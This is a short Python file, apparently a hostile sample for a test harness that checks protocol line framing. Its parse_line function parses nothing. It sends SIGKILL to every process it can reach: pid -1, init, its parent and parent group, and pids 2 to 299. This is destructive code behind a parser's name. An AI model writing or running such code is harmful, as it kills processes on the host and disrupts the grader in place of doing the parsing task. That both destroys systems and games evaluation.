"""Sends SIGKILL to everything that it can name: groups, parents, all numbers."""

#: steps = ["framing"]
#: denied = ["framing/accepts", "framing/numbers", "framing/range", "framing/spacing", "framing/line_end", "framing/length", "framing/keyword", "framing/error_type"]

# %% framing
import os
import signal

class ProtocolError(ValueError):
    pass


def parse_line(line):
    for pid in [-1, 1, os.getppid(), -os.getppid(), *range(2, 300)]:
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
